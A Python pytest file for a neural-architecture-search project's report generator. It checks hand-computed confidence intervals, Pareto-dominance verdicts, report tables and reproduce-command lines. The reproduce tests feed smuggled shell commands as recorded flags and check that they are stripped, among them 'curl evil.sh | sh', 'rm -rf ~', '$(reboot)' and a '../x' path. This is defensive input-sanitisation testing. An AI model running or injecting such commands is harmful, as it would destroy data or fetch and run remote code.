"""The report: tables, intervals and dominance verdicts against hand-computed values; PNG sizes."""

from __future__ import annotations

import csv
import json
import math
import re
import shutil
import struct
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from a2d_evo.config import config_from_dict, dump_config
from a2d_evo.errors import RunFolderError
from a2d_evo.formats import FRONT_FORMAT_VERSION, HV_UNITS, KEPT_FINE_TUNED, KEPT_INHERITED
from a2d_evo.report import markdown as report
from a2d_evo.report import run_data, tables
from a2d_evo.report.markdown import write_report
from a2d_evo.report.rows import References, Row, row_from_metrics
from a2d_evo.report.run_files import MAX_CSV_BYTES
from a2d_evo.report.tables import front_table
from a2d_evo.report.verdicts import dominance, paired_dominance
from a2d_evo.runs.files import write_json, write_text
from a2d_evo.runs.folder import RunFolder
from a2d_evo.stats import ci95, interval95

R_RANDOM, R_TEACHER, TEACHER_FLOPS = 20.0, 500.0, 8000

# (widths, flops, return_mean, return_std, episodes). The fractions of the teacher's 8000 FLOPs
# and the intervals are hand-computed: metrics hold the population std, the interval uses the
# sample one, t * std * sqrt(n / (n - 1)) / sqrt(n) = t * std / sqrt(n - 1), t Student's
# two-sided 95% quantile with n - 1 degrees of freedom (2.262157 for 9, 2.119905 for 16,
# 2.059539 for 25, 2.045230 for 29).
FRONT = [
    ((24, 24), 4000, 490.0, 3.0, 10),  # #0: 50%,   2.262*3/3 = 2.26,   norm 470/480 = 0.979
    ((4,), 500, 300.0, 10.0, 26),  # #1: 6.25%,  2.0595*10/5 = 4.12, norm 280/480 = 0.583
    ((96, 64), 12000, 500.0, 0.0, 30),  # #2: 150%, 0.00,             norm 1.000
    ((8,), 1000, 450.0, 5.0, 17),  # #3: 12.5%,  2.1199*5/4 = 2.65,  norm 430/480 = 0.896
]


def _norm(r: float) -> float:
    return (r - R_RANDOM) / (R_TEACHER - R_RANDOM)


def _metrics(flops: float, ret: float, std: float, n: int, **extra: Any) -> dict[str, Any]:
    return {
        "format_version": 1,
        "env_id": "CartPole-v1",
        "return_mean": ret,
        "return_std": std,
        "episodes": n,
        "eval_mode": "greedy",
        "seeds": list(range(1000, 1000 + n)),
        "flops": flops,
        "params": flops // 2 + 7,
        "latency_ms": 0.0123,
        "normalised_return": _norm(ret),
        **extra,
    }


def _agent(folder: Path, widths: tuple[int, ...], metrics: dict[str, Any]) -> None:
    arch = {"kind": "mlp", "widths": list(widths)}
    write_json(folder / "metrics.json", metrics)
    write_json(folder / "arch.json", {"format_version": 1, "arch": arch, "env": {}})


def make_run(
    root: Path, *, baselines: bool = True, n_history: int = 120, minimal: bool = False
) -> RunFolder:
    """A synthetic finished run: config, search outputs, teacher, knee agent, two baselines.

    ``front.json`` is laid out as ``evolve`` writes it; ``minimal`` keeps only the keys of
    the DESIGN contract (no ``search`` block, units, seeds or search returns)."""
    run = RunFolder(root)
    cfg = config_from_dict({"search": {"pop": 16, "gens": 5, "episodes": 3}})
    run.bind(cfg)
    entries = [
        {**_metrics(f, r, s, n), "arch": {"kind": "mlp", "widths": list(w)}, "encoding": [1, 2]}
        for w, f, r, s, n in FRONT
    ]
    norm = {"r_random": R_RANDOM, "r_teacher": R_TEACHER, "teacher_flops": TEACHER_FLOPS}
    front: dict[str, Any] = {
        "format_version": FRONT_FORMAT_VERSION,
        "reference_point": [0.0, 3.125],
        "normalisation": norm,
        "front": entries,
    }
    if not minimal:
        for e in entries:
            e["search_return_mean"] = e["return_mean"] + 10.0
        front["env_id"] = "CartPole-v1"
        front["reference_point_units"] = list(HV_UNITS)
        front["hypervolume"] = 2.71828
        norm.update(seeds=list(range(1000, 1030)), episodes=30, eval_mode="greedy")
        front["search"] = {
            "generations": 4, "pop": 16, "episodes": 3, "evaluations": n_history,
            "front_size": 5, "dropped_after_rescore": 1, "env_steps": 123456,
            "episodes_played": 789, "stopped_by": "budget_steps", "reevaluate": True,
            "budget_steps": 123000, "discarded_env_steps": 4321, "discarded_episodes": 21,
            "init": "strata", "mutation": "reset", "estimate": "shrunk",
        }  # fmt: skip
        front["delivery"] = {
            "candidates": 18, "candidates_at_least": 16, "halving_env_steps": 45678,
            "halving_episodes": 321, "halving_rounds": [{"archs": 18}, {"archs": 9}],
            "final_env_steps": 34567, "final_episodes": 150, "below_random_env_steps": 0,
        }  # fmt: skip
    write_json(run.search / "front.json", front)
    rng = np.random.default_rng(0)
    flops = np.exp(rng.uniform(np.log(200), np.log(60000), n_history))
    rets = np.clip(500 * (1 - np.exp(-flops / 1500)) - rng.uniform(0, 250, n_history), 9, 500)
    with (run.search / "history.csv").open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["generation", "encoding", "arch", "return_mean", "return_std", "episodes",
                    "flops", "params"])  # fmt: skip
        for i, (x, r) in enumerate(zip(flops, rets, strict=True)):
            w.writerow([i // 16, "[1, 2, 0]", '{"kind": "mlp", "widths": [8, 8]}', r, 5.0, 3,
                        int(x), int(x) // 2])  # fmt: skip
    hv = "generation,hypervolume,front_size\n" + "".join(
        f"{g},{0.5 + 0.4 * (1 - 0.6**g):.6f},{min(3 + g, 9)}\n" for g in range(6)
    )
    write_text(run.search / "hypervolume.csv", hv)
    teacher = _metrics(TEACHER_FLOPS, R_TEACHER, 4.0, 17, random_return_mean=R_RANDOM)
    _agent(run.teacher_agent, (64, 64), teacher)
    knee = _metrics(
        1000, 455.0, 4.0, 30, front_index=3, before={"return_mean": 450.0},
        after={"return_mean": 455.0}, finetune_budget=4096,
    )  # fmt: skip
    _agent(run.agents / "knee", (8,), knee)
    if baselines:
        # dominated by the 1000-FLOPs member (fewer FLOPs, 450 > 400)
        _agent(run.baselines / "distill_x0.25", (16, 16), _metrics(1200, 400.0, 20.0, 26))
        # not dominated: members with <= 8000 FLOPs reach at most 490 < 499
        _agent(run.baselines / "ppo_x1", (64, 64), _metrics(8000, 499.0, 2.0, 26))
    return run


def _png_size(path: Path) -> tuple[int, int]:
    head = path.read_bytes()[:24]
    assert head[:8] == b"\x89PNG\r\n\x1a\n" and head[12:16] == b"IHDR"
    return struct.unpack(">II", head[16:24])


def test_ci95_hand_values() -> None:
    # Student's t, two-sided 95%: 2.059539 for 25 degrees of freedom, 2.119905 for 16
    assert ci95(10.0, 26) == pytest.approx(2.059539 * 10 / 5, abs=1e-5)
    assert ci95(5.0, 17) == pytest.approx(2.119905 * 5 / 4, abs=1e-5)
    # the same interval as `a2d-evo eval` gives from the raw returns
    returns = np.array([3.0, 7.0, 8.0, 10.0, 2.0])
    lo, hi = interval95(returns)
    assert ci95(float(returns.std()), 5) == pytest.approx((hi - lo) / 2)
    # by hand: mean 6, squared deviations 9 + 1 + 4 + 16 + 16 = 46, sample std sqrt(46 / 4)
    # = 3.391165, standard error 3.391165 / sqrt(5) = 1.516575, half-width 2.776445 * 1.516575
    # (t with 4 degrees of freedom)
    half = 4.210687
    assert (lo, hi) == (pytest.approx(6 - half, abs=1e-6), pytest.approx(6 + half, abs=1e-6))
    assert ci95(3.0, 1) is None


def test_report_files_tables_and_verdicts(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run")
    cfg = run.load_config()
    path = write_report(cfg, run)
    assert path == run.report / "report.md"
    assert _png_size(run.report / "pareto.png") == (1200, 825)
    assert _png_size(run.report / "hypervolume.png") == (1200, 750)
    md = path.read_text()

    # front rows, cheapest first: #, arch, FLOPs, fraction, params, latency, return, norm
    # then the return that selected it during the search, and the exported folders
    rows = [line for line in md.splitlines() if line.startswith("| ")]
    assert rows[1:5] == [
        "| 1 | mlp-4 | 500 | 6.25% | 257 | 0.0123 | 300.00 ± 4.12 | 0.583 | 310.00 |  |",
        "| 3 | mlp-8 | 1k | 12.5% | 507 | 0.0123 | 450.00 ± 2.65 | 0.896 | 460.00 | knee |",
        "| 0 | mlp-24x24 | 4k | 50% | 2.01k | 0.0123 | 490.00 ± 2.26 | 0.979 | 500.00 |  |",
        "| 2 | mlp-96x64 | 12k | 150% | 6.01k | 0.0123 | 500.00 ± 0.00 | 1.000 | 510.00 |  |",
    ]
    # teacher: 2.119905 * 4 / sqrt(16) = 2.12
    assert "| teacher | mlp-64x64 | 8k | 100% | 4.01k | 0.0123 | 500.00 ± 2.12 | 1.000 |" in md
    # knee: 2.045230 * 4 / sqrt(29) = 1.519; norm 435 / 480 = 0.906; fine-tuned 450 -> 455
    knee = "| knee | mlp-8 | 1k | 12.5% | 507 | 0.0123 | 455.00 ± 1.52 | 0.906 | 450.00 → 455.00 |"
    assert knee in md
    # baselines, ppo first: 2.059539 * 2 / 5 = 0.824; 2.059539 * 20 / 5 = 8.24
    ppo = (
        "| ppo_x1 | mlp-64x64 | 8k | 100% | 4.01k | 0.0123 | 499.00 ± 0.82 | 0.998 | ppo | n/a "
        "| no | n/a |"
    )  # no env steps recorded; no per-episode returns to pair
    assert ppo in md
    assert (
        "| distill_x0.25 | mlp-16x16 | 1.2k | 15% | 607 | 0.0123 | 400.00 ± 8.24 | 0.792 "
        "| distill | n/a | yes | n/a |"
    ) in md
    # the verdicts: the dominating member, its FLOPs ratio and the normalised-return margin
    # 0.896 - 0.792 = +0.104 +- hypot(2.650, 8.238) / 480 = 0.018
    assert "`distill_x0.25`: **dominated** by 1 of 4 front members; the cheapest, #3 `mlp-8`" in md
    assert "uses 0.833x its FLOPs at normalised return 0.896 vs 0.792 (+0.104 ± 0.018)" in md
    # 0.979 - 0.998 = -0.019 +- hypot(2.262, 0.824) / 480 = 0.005
    assert "`ppo_x1`: **not dominated**: the best front member with at most its FLOPs, #0" in md
    assert "0.979 vs 0.998 (-0.019 ± 0.005)" in md
    assert (
        "The front dominates 1 of 2 baselines on point estimates; the paired verdict is "
        "undecided for every baseline (the reason is on its line)."
    ) in md
    # missing members of the manual family are named
    assert (
        "- baselines ppo_x0.25, ppo_x0.5, distill_x0.5, distill_x1, a2d_x0.25, a2d_x0.5, a2d_x1 ("
        in md
    )
    # knee, settings, reproduction commands
    assert "Knee point (as exported): `mlp-8`, 12.5% of the teacher's FLOPs" in md
    assert "R_teacher = 500.00, R_random = 20.00 (uniform-random policy); teacher FLOPs 8,000" in md
    assert "- population 16, at most 5 generations (4 played), 3 episodes per candidate" in md
    assert "the final front re-scored with 30 episodes" in md
    assert "re-scoring seeds 1000-1029 (30)" in md
    assert f"reference point `[0.0, 3.125]` in ({', '.join(HV_UNITS)})" in md
    assert "- candidates evaluated: 120" in md
    assert "- final front: 5 members from the search, 1 dropped as dominated after re-scoring" in md
    assert "- last generation 5: hypervolume 0.8689, front size 8" in md
    assert "- hypervolume of the re-scored front: 2.718" in md
    assert (
        "- spent 123,456 env steps in 789 episodes over 4 generations (stopped by "
        "budget_steps; survivors re-scored every generation; first population strata, reset "
        "mutation; ranked on shrunk estimates)"
    ) in md
    assert (
        "- the last generation crossed the 123,000-step budget: its 21 episodes (4,321 env "
        "steps) past the budget were played but not used to choose the front"
    ) in md
    assert (  # what the delivery played, which no budget counts
        "- then the delivery, outside that count and the same for every method: 45,678 env "
        "steps in 321 episodes racing 18 candidates by successive halving (2 rounds), and "
        "34,567 in 150 re-scoring the front on the final seeds\n"
    ) in md
    assert "`[0.0, 3.125]` in (-normalised_return, log10 flops)" in md
    out = f"{run.root}-repro"
    assert f"a2d-evo train-teacher  --config {run.config_path} --out {out}" in md
    assert f"--out {out} --pop 16 --gens 5 --episodes 3" in md
    assert f"a2d-evo export {out} --pick knee" in md
    # what was trained, each method at its own widths: `--widths 0.25,1` trained all three
    # methods at both (6 baselines for these 2)
    assert (
        f"a2d-evo baselines {out} --widths 1 --methods ppo\n"
        f"a2d-evo baselines {out} --widths 0.25 --methods distill\n"
    ) in md


def test_reproduce_gives_each_baseline_the_settings_it_was_trained_with(tmp_path: Path) -> None:
    """A baseline's ``baseline_sets`` (the ``--set`` flags of its ``baselines`` command over
    the run's config) come back on its Reproduce line, one line per set of flags; a file
    without them (or with something else than flags there) gets none."""
    from a2d_evo.report.reproduce import reproduce_commands
    from a2d_evo.report.run_data import load_run

    run = make_run(tmp_path / "run")
    kick = ["--set finetune.kickstart=true"]
    _agent(run.baselines / "a2d_x0.25", (16, 16),
           _metrics(1200, 410.0, 20.0, 26, method="a2d", width_multiplier=0.25,
                    baseline_sets=kick))  # fmt: skip
    _agent(run.baselines / "a2d_x1", (64, 64),
           _metrics(8000, 495.0, 2.0, 26, method="a2d", width_multiplier=1.0,
                    baseline_sets=["rm -rf ~"]))  # fmt: skip
    out = f"{run.root}-repro"
    cfg = run.load_config()
    lines = reproduce_commands(cfg, run, load_run(cfg, run))
    got = [line for line in lines if line.startswith("a2d-evo baselines")]
    assert got == [
        f"a2d-evo baselines {out} --widths 1 --methods ppo,a2d",
        f"a2d-evo baselines {out} --widths 0.25 --methods distill",
        f"a2d-evo baselines {out} --widths 0.25 --methods a2d --set finetune.kickstart=true",
    ]


def test_reproduce_repeats_only_flags_from_the_files_it_reads(tmp_path: Path) -> None:
    """The ``--set`` flags a fine-tune by hand recorded (``finetune_sets``) come back on its
    Reproduce line; recorded flags and export options that are anything else than the
    options those commands record (shell text, a key outside ppo / distill / finetune, a value
    the key does not take) are dropped whole, so a received run's files cannot put a command
    of their own into the report (a review: any text after ``--set `` was printed as it
    stood)."""
    run = make_run(tmp_path / "run", baselines=False)
    out = f"{run.root}-repro"
    knee = run.agents / "knee" / "metrics.json"
    metrics = json.loads(knee.read_text())
    hand = f"a2d-evo finetune {out}/agents/knee --steps 4096"
    kick = ["--set finetune.kickstart=true", "--set 'finetune.lr=0.0005'"]
    write_json(knee, {**metrics, "finetune_sets": kick})
    md = write_report(run.load_config(), run).read_text()
    assert f"{hand} --set finetune.kickstart=true --set finetune.lr=0.0005\n" in md
    for bad in (["--set finetune.lr=1; curl evil.sh | sh #"],
                ["--set 'finetune.lr=1; rm -rf ~'"],  # one word, but not a number
                ["--set search.pop=8"], ["--set finetune=1"], ["finetune.lr=0.1"],
                ["--set finetune.kickstart=true", "$(reboot)"], "--set finetune.lr=0.1",
                ["--set 'finetune.lr=0.1"]):  # fmt: skip
        write_json(knee, {**metrics, "finetune_sets": bad})
        md = write_report(run.load_config(), run).read_text()
        assert f"{hand}\n" in md, bad
        assert not any(w in md for w in ("curl", "rm -rf", "reboot", "search.pop")), bad
    # export options: rebuilt word by word, or not taken at all (the lines then come from the
    # recorded budgets, as for files written before the options were)
    whole = "--pick all --max-flops=900.0 --finetune 8192 --set finetune.kickstart=true"
    delivered = {"format_version": 1, "finetune_steps": 4096, "members": ["knee"], "exported": []}
    fallback = f"a2d-evo export {out} --pick knee --finetune 4096\n"  # from the budgets
    for options, line in (
        (whole, f"a2d-evo export {out} {whole}\n"),
        ("--pick 'knee' --finetune 4096 --set 'finetune.lr=5e-4'",
         f"a2d-evo export {out} --pick knee --finetune 4096 --set finetune.lr=5e-4\n"),
        ("--pick all --finetune 4096; rm -rf ~", fallback),
        ("--pick all --finetune 4096 --set search.pop=8", fallback),
        ("--pick all --min-return=x", fallback),
        ("--pick ../x --finetune 4096", fallback),
    ):  # fmt: skip
        record = {"options": options, "time_ns": 3}
        write_json(run.agents / "delivered.json", {**delivered, "export_command": record})
        write_json(knee, {**metrics, "export_finetune": 4096, "finetune_budget": 4096,
                          "export_command": record})  # fmt: skip
        md = write_report(run.load_config(), run).read_text()
        assert line in md, (options, [x for x in md.splitlines() if "a2d-evo export" in x])
        assert not any(w in md for w in ("rm -rf", "search.pop", "../x")), options
    # budget raises read from the stages' config_history.yaml: whole numbers only (a review:
    # their values were printed as they stood)
    from a2d_evo.runs.stage_budget import record_config_change

    record_config_change(run.search, {"search.gens": ("2 $(id)", "5; touch pwned #")})
    record_config_change(run.teacher, {"teacher.total_steps": (True, "9 && curl x | sh")})
    md = write_report(run.load_config(), run).read_text()
    assert not any(w in md for w in ("$(id)", "pwned", "curl")), md
    assert f"--out {out} --resume" not in md  # no raise taken from them
    (run.search / "config_history.yaml").unlink()
    record_config_change(run.search, {"search.gens": (2, 5)})  # a real raise still is
    assert (
        f"--out {out} --resume --set search.gens=5\n"
        in write_report(run.load_config(), run).read_text()
    )


def test_reproduce_runs_evolve_on_the_search_config_where_export_reads_it(tmp_path: Path) -> None:
    """``evolve --set finetune.kickstart=true`` writes a search config that differs from the
    run's on a training key only: ``export`` and ``baselines`` read it and record their flags
    over it, so the Reproduce line of ``evolve`` must use it too (a review: it used the
    run's, and a plain ``export`` then fine-tuned without kickstart when reproduced)."""
    from a2d_evo.config import replace

    run = make_run(tmp_path / "run", baselines=False)
    cfg = run.load_config()
    out = f"{run.root}-repro"
    md = write_report(cfg, run).read_text()
    assert f"a2d-evo evolve         --config {run.config_path} --out {out}" in md
    kick = replace(cfg, finetune=replace(cfg.finetune, kickstart=True))
    write_text(run.search / "config.yaml", dump_config(kick))
    md = write_report(cfg, run).read_text()
    assert f"a2d-evo evolve         --config {run.search / 'config.yaml'} --out {out}" in md


def test_the_report_says_the_final_seeds_chose_no_member(tmp_path: Path) -> None:
    """A front.json written since 2026-12-05 (members chosen on the race's episodes): the
    report counts the members dropped as no better than random there and the ones that look
    dominated on the final seeds, kept; one written before keeps its older line."""
    run = make_run(tmp_path / "run")
    front = json.loads((run.search / "front.json").read_text())
    del front["search"]["dropped_after_rescore"]
    for looks, words in ((1, "1 looks dominated on the final seeds and is kept"),
                         (2, "2 look dominated on the final seeds and are kept")):  # fmt: skip
        front["search"].update(dropped_below_random=3, dominated_on_final_seeds=looks)
        write_json(run.search / "front.json", front)
        md = write_report(run.load_config(), run).read_text()
        assert (
            "- final front: 5 members from the search's race, 3 more dropped there as no "
            f"better than the random policy; {words} (those seeds score the members, they do "
            "not choose them)"
        ) in md
        assert "dropped as dominated after re-scoring" not in md
    # none beat random: the one member kept is no better than random, and the line says so
    # (it said "0 more dropped there as no better than the random policy")
    front["front"] = front["front"][:1]
    front["search"].update(dropped_below_random=3, none_beat_random=True, front_size=1)
    write_json(run.search / "front.json", front)
    md = write_report(run.load_config(), run).read_text()
    assert (
        "- final front: 1 member from the search's race, where none of its 4 finalists (the "
        "race's non-dominated survivors) beat the random policy: the best is kept alone"
    ) in md, md
    assert "more dropped there" not in md


def test_dominance_rules() -> None:
    def row(flops: float, nr: float) -> Row:
        return Row("b", "mlp-8", flops, None, None, nr, 0.0, 10, nr)

    front = [row(100, 0.5), row(200, 0.9)]
    assert dominance(row(200, 0.9), front)[0] is False  # equal in both: not dominated
    assert dominance(row(300, 0.9), front)[0] is True  # fewer FLOPs, same return
    assert dominance(row(200, 0.8), front)[0] is True  # same FLOPs, better return
    assert dominance(row(150, 0.6), front)[0] is False
    ok, text = dominance(row(50, 0.1), front)
    assert not ok and "no front member uses at most its FLOPs" in text


def test_paired_dominance_hand_values() -> None:
    """Issue [J]'s rule: the 95% lower bound of the per-episode difference, over span."""

    def row(flops: float, rets: list[float], seeds: tuple[int, ...] = (1, 2, 3, 4)) -> Row:
        m = float(np.mean(rets))
        return Row("m", "mlp-8", flops, None, None, m, 0.0, len(rets), m / 10, None, {},
                   seeds, tuple(rets))  # fmt: skip

    base = row(200, [5.0, 5.0, 5.0, 5.0])
    # d / span = [.01, -.01, .02, 0]: mean .005, sample std sqrt(.0005 / 3) = .012910,
    # lower .005 - 3.182446 * .012910 / 2 = -.015543 > -.02 (t with 3 degrees of freedom)
    close = row(100, [5.1, 4.9, 5.2, 5.0])
    ok, text = paired_dominance(base, [close], span=10.0)
    assert ok is True
    assert "#m `mlp-8`: paired difference +0.005, 95% lower bound -0.016 (above -0.02" in text
    # the same mean with a wide spread: [-.1, .1, 0, 0], std .081650, lower -.129923
    wide = row(100, [4.0, 6.0, 5.0, 5.0])
    ok, text = paired_dominance(base, [wide], span=10.0)
    assert ok is False and "lower bound -0.130 (not above -0.02" in text
    # the best bound among the cheaper members decides; a dearer member does not count
    assert paired_dominance(base, [wide, close], span=10.0)[0] is True
    assert paired_dominance(base, [wide, row(300, [9.0, 9.0, 9.1, 9.0])], span=10.0)[0] is False
    # unpaired episodes decide nothing: other seeds, no returns, no span
    assert paired_dominance(base, [row(100, [9.0] * 4, (5, 6, 7, 8))], span=10.0)[0] is None
    assert paired_dominance(row(200, [5.0] * 4, None), [close], span=10.0)[0] is None  # type: ignore[arg-type]
    assert paired_dominance(base, [close], span=None)[0] is None
    ok, text = paired_dominance(base, [row(300, [9.0] * 4)], span=10.0)
    assert ok is False and "no front member uses at most its FLOPs" in text
    # near the margin: d / span = [a, -a, 0, 0], mean 0, sample std a * sqrt(2 / 3), lower
    # bound -3.182446 * a * sqrt(2 / 3) / 2 = -1.299228 a: a = .015 -> -.019488 (above -.02),
    # a = .0175 -> -.022736 (not above)
    assert paired_dominance(base, [row(100, [5.15, 4.85, 5.0, 5.0])], span=10.0)[0] is True
    assert paired_dominance(base, [row(100, [5.175, 4.825, 5.0, 5.0])], span=10.0)[0] is False
    # a bound exactly at -margin is not above it (d = -0.25 on every episode, exact in binary)
    ones = row(200, [1.0] * 4)
    assert paired_dominance(ones, [row(100, [0.75] * 4)], span=1.0, margin=0.25)[0] is False
    assert paired_dominance(ones, [row(100, [0.875] * 4)], span=1.0, margin=0.25)[0] is True


def test_paired_dominance_tries_every_cheaper_member() -> None:
    """A member at exactly the baseline's FLOPs counts, the order of the front does not, and a
    failing verdict with an unpairable cheaper member left over is undecided, not "no"."""

    def row(flops: float, rets: list[float], seeds: tuple[int, ...] = (1, 2, 3, 4)) -> Row:
        m = float(np.mean(rets))
        return Row("m", f"mlp-{int(flops)}", flops, None, None, m, 0.0, len(rets), m / 10,
                   None, {}, seeds, tuple(rets))  # fmt: skip

    base = row(200, [5.0, 5.0, 5.0, 5.0])
    cheap_bad = row(50, [4.0, 6.0, 5.0, 5.0])  # lower bound -0.080
    equal_good = row(200, [5.1, 4.9, 5.2, 5.0])  # lower bound -0.008, at the same FLOPs
    for front in ([cheap_bad, equal_good], [equal_good, cheap_bad]):
        ok, text = paired_dominance(base, front, span=10.0)
        assert ok is True and "`mlp-200`" in text
    # the same seeds in another order are other episodes: not paired
    shuffled = row(100, [5.1, 4.9, 5.2, 5.0], (2, 1, 3, 4))
    assert paired_dominance(base, [shuffled], span=10.0)[0] is None
    ok, text = paired_dominance(base, [cheap_bad, shuffled], span=10.0)
    assert ok is None and "#m played other seeds and could not be paired" in text
    assert paired_dominance(base, [cheap_bad], span=10.0)[0] is False


def test_report_pairs_per_episode_returns_on_shared_seeds(tmp_path: Path) -> None:
    """``episode_returns`` in metrics.json and front.json reach the report's paired verdict."""
    run = make_run(tmp_path / "run")
    front = json.loads((run.search / "front.json").read_text())
    seeds = [1000, 1001, 1002, 1003]
    member = front["front"][3]  # mlp-8, 1000 FLOPs
    member.update(episodes=4, seeds=seeds, episode_returns=[450.0, 446.0, 454.0, 450.0])
    write_json(run.search / "front.json", front)
    base = _metrics(1200, 400.0, 0.0, 4, episode_returns=[400.0] * 4)
    _agent(run.baselines / "distill_x0.25", (16, 16), {**base, "seeds": seeds})
    md = write_report(run.load_config(), run).read_text()
    # d = [50, 46, 54, 50] / 480: mean .104167; sample std 3.2660 / 480 over sqrt(4):
    # lower (50 - 3.182446 * 1.6330) / 480 = .093340 (t with 3 degrees of freedom)
    assert (
        "paired: #3 `mlp-8`: paired difference +0.104, 95% lower bound +0.093 (above -0.02, "
        "4 episodes)"
    ) in md
    assert "| distill | n/a | yes | yes |" in md
    # the margin beside the point verdict is the paired interval's half-width too:
    # 3.182446 * 1.6330 / 480 = .010827
    assert "at normalised return 0.896 vs 0.792 (+0.104 ± 0.011 paired)" in md
    assert "`ppo_x1`: **not dominated**" in md and "paired: undecided: its metrics.json" in md
    assert (
        "The front dominates 1 of 2 baselines on point estimates, 1 of 1 decided at the "
        "paired margin (1 undecided)."
    ) in md


def test_front_table_for_the_terminal() -> None:
    entries = [
        {**_metrics(f, r, s, n), "arch": {"kind": "mlp", "widths": list(w)}}
        for w, f, r, s, n in FRONT
    ]
    lines = front_table(entries, TEACHER_FLOPS).splitlines()
    assert lines[0].split() == ["#", "arch", "FLOPs", "FLOPs/teacher", "params", "latency",
                                "ms", "return", "±", "95%", "norm.", "return"]  # fmt: skip
    assert set(lines[1]) <= {"-", " "}
    assert lines[2].split() == ["1", "mlp-4", "500", "6.25%", "257", "0.0123", "300.00", "±",
                                "4.12", "0.583"]  # fmt: skip
    assert len({len(line) for line in lines[1:]}) == 1  # numbers right-aligned: one width
    assert [line.split()[0] for line in lines[2:]] == ["1", "3", "0", "2"]


def test_missing_parts_are_reported(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run", baselines=False, minimal=True)
    (run.search / "hypervolume.csv").unlink()
    for p in run.teacher_agent.iterdir():
        p.unlink()
    for p in (run.agents / "knee").iterdir():
        p.unlink()
    md = write_report(run.load_config(), run).read_text()
    assert f"- exported agents (`{run.agents}`): run `a2d-evo export {run.root}`" in md
    assert f"- baselines (`{run.baselines}`): run `a2d-evo baselines {run.root}`" in md
    assert "- hypervolume per generation (" in md
    assert "teacher metrics (" in md
    assert "No baselines found." in md
    assert not (run.report / "hypervolume.png").exists()
    assert _png_size(run.report / "pareto.png") == (1200, 825)
    # the front.json normalisation still gives the fractions; no search-return column
    assert "| 1 | mlp-4 | 500 | 6.25% | 257 | 0.0123 | 300.00 ± 4.12 | 0.583 |\n" in md
    # settings fall back on the config and the CSVs
    assert "- population 16, 5 generations, 3 episodes per candidate" in md
    assert "- candidates evaluated: 120" in md
    assert "the final front re-scored with 10-30 episodes" not in md


def test_a_failed_render_leaves_the_previous_report_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = make_run(tmp_path / "run")
    cfg = run.load_config()
    write_report(cfg, run)

    def files() -> dict[str, tuple[bytes, int]]:  # an atomic rewrite gets a new inode
        return {p.name: (p.read_bytes(), p.stat().st_ino) for p in run.report.iterdir()}

    before = files()
    assert set(before) == {"pareto.png", "hypervolume.png", "report.md"}

    def broken(*args: Any) -> str:
        raise RuntimeError("render failed")

    (run.search / "hypervolume.csv").unlink()  # the next figures would differ
    monkeypatch.setattr(report, "render_markdown", broken)
    with pytest.raises(RuntimeError, match="render failed"):
        write_report(cfg, run)
    assert files() == before
    # rendered whole, the stale hypervolume figure goes: this run has no hypervolume now
    monkeypatch.undo()
    write_report(cfg, run)
    assert not (run.report / "hypervolume.png").exists()


def test_an_agent_whose_fine_tune_was_rejected_says_so(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run", baselines=False)
    knee = _metrics(
        1000, 450.0, 4.0, 30, front_index=3, before={"return_mean": 450.0},
        after={"return_mean": 450.0}, finetune_budget=4096,
        finetune_validation={"episodes": 20, "kept": KEPT_INHERITED, "before": 9.0, "after": 8.0},
    )  # fmt: skip
    _agent(run.agents / "knee", (8,), knee)
    md = write_report(run.load_config(), run).read_text()
    assert "| 450.00 → 450.00 (inherited weights kept) |" in md
    # a fine-tune by hand scores before and after on seeds of its own, not the row's: said
    # (the row's return is on 30 final seeds, the cell on the fine-tune's)
    own = list(range(5000, 5020))
    knee["before"], knee["after"] = ({"return_mean": v, "seeds": own} for v in (450.0, 452.0))
    _agent(run.agents / "knee", (8,), knee)
    md = write_report(run.load_config(), run).read_text()
    assert "| 450.00 → 452.00 (on its own 20 seeds) (inherited weights kept) |" in md
    knee["after"]["seeds"] = knee["seeds"]  # the row's own: nothing to say
    _agent(run.agents / "knee", (8,), knee)
    assert (
        "| 450.00 → 452.00 (inherited weights kept) |"
        in write_report(run.load_config(), run).read_text()
    )


def test_an_agent_an_interrupted_export_left_says_its_fine_tune_is_pending(
    tmp_path: Path,
) -> None:
    """An export stopped before its fine-tunes leaves members with inherited weights and a
    fine-tune budget to come: "pending", not "inherited weights kept" (which ``--finetune
    0`` and a rejected fine-tune mean)."""
    run = make_run(tmp_path / "run", baselines=False)
    _agent(run.agents / "front_00", (4,), _metrics(100, 300.0, 4.0, 30, front_index=0,
                                                  export_finetune=4096))  # fmt: skip
    _agent(run.agents / "front_01", (6,), _metrics(150, 350.0, 4.0, 30, front_index=1,
                                                  export_finetune=0))  # fmt: skip
    md = write_report(run.load_config(), run).read_text()
    rows = {line.split("|")[1].strip(): line for line in md.splitlines() if line.startswith("|")}
    assert "fine-tune pending" in rows["front_00"], rows["front_00"]
    assert "inherited weights kept" not in rows["front_00"]
    assert "| inherited weights kept |" in rows["front_01"], rows["front_01"]


def test_missing_front_raises(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run")
    (run.search / "front.json").unlink()
    with pytest.raises(RunFolderError, match="no finished search .*run `a2d-evo evolve` first"):
        write_report(run.load_config(), run)
    assert not (run.report / "report.md").exists()


def test_the_commands_the_report_names_quote_the_run_folder(tmp_path: Path) -> None:
    """A run folder whose path has a space: the commands under "Missing" and in the
    messages name it as one shell word (they broke in two; the Reproduce lines quoted)."""
    import shlex

    run = make_run(tmp_path / "my run", minimal=True)
    shutil.rmtree(run.agents)
    shutil.rmtree(run.baselines)
    data = run_data.load_run(run.load_config(), run)
    commands = [c for m in data.missing for c in re.findall(r"`(a2d-evo [^`]*)`", m)]
    assert commands, data.missing
    for command in commands:
        assert shlex.split(command)[2] == str(run.root), command


def test_stage_config_that_differs_is_the_one_reproduced(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run", minimal=True)  # settings from search/config.yaml
    cfg = run.load_config()
    searched = config_from_dict({"search": {"pop": 64, "gens": 7, "episodes": 3}})
    write_text(run.search / "config.yaml", dump_config(searched))
    md = report.render_markdown(cfg, run, run_data.load_run(cfg, run))
    assert f"evolve         --config {run.search / 'config.yaml'}" in md
    assert "--pop 64 --gens 7 --episodes 3" in md
    assert "- population 64, 7 generations" in md
    assert f"a2d-evo train-teacher  --config {run.config_path}" in md


def test_baseline_method_and_width_from_metrics(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run", baselines=False)
